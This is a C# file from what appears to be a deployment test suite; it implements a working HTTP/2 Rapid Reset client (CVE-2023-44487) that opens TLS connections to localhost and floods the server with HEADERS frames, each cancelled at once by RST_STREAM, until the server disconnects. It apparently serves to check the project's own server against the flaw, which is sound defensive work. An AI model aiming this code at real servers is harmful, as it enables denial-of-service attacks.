using System.Net.Security;
using System.Net.Sockets;
using System.Security.Cryptography.X509Certificates;
using System.Text;

namespace Hotline111.Deploy.Tests.Running;

/// <summary>Somebody who begins streams of HTTP/2 and takes each back at once, so that the server has the work and he has none (CVE-2023-44487).</summary>
internal static class RapidReset
{
    private const byte Headers = 0x1;
    private const byte Reset = 0x3;
    private const byte Settings = 0x4;
    private const byte EndStreamAndHeaders = 0x5;
    private const byte Cancel = 0x8;

    /// <summary>Sends what it may until the server hangs up.</summary>
    /// <param name="port">Where it listens.</param>
    /// <param name="trusted">Whose certificate it may show.</param>
    /// <param name="connections">One after the other.</param>
    /// <param name="streams">On each, at most.</param>
    /// <param name="ct">Cancels.</param>
    /// <returns>How many streams were begun and reset.</returns>
    public static async Task<int> Run(int port, X509ChainPolicy trusted, int connections, int streams, CancellationToken ct)
    {
        var sent = 0;
        for (var connection = 0; connection < connections; connection++)
            sent += await Once(port, trusted, streams, ct);
        return sent;
    }

    private static async Task<int> Once(int port, X509ChainPolicy trusted, int streams, CancellationToken ct)
    {
        using var socket = new TcpClient();
        await socket.ConnectAsync("127.0.0.1", port, ct);
        await using var tls = new SslStream(socket.GetStream());
        await tls.AuthenticateAsClientAsync(
            new SslClientAuthenticationOptions { TargetHost = "localhost", ApplicationProtocols = [SslApplicationProtocol.Http2], CertificateChainPolicy = trusted },
            ct);
        tls.NegotiatedApplicationProtocol.ShouldBe(SslApplicationProtocol.Http2);
        var begun = 0;
        try
        {
            byte[] preface = [.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, .. Frame(Settings, 0, 0, [])];
            await tls.WriteAsync(preface, ct);
            // GET / https localhost, as indexed fields and one literal.
            byte[] fields = [0x82, 0x87, 0x84, 0x41, 9, .. Encoding.ASCII.GetBytes("localhost")];
            for (; begun < streams; begun++)
            {
                var id = (begun * 2) + 1;
                byte[] both = [.. Frame(Headers, EndStreamAndHeaders, id, fields), .. Frame(Reset, 0, id, [0, 0, 0, Cancel])];
                await tls.WriteAsync(both, ct);
            }
        }
        catch (IOException)
        {
            // It has had enough.
        }

        return begun;
    }

    private static byte[] Frame(byte type, byte flags, int stream, byte[] payload) =>
        [(byte)(payload.Length >> 16), (byte)(payload.Length >> 8), (byte)payload.Length, type, flags, (byte)(stream >> 24), (byte)(stream >> 16), (byte)(stream >> 8), (byte)stream, .. payload];
}
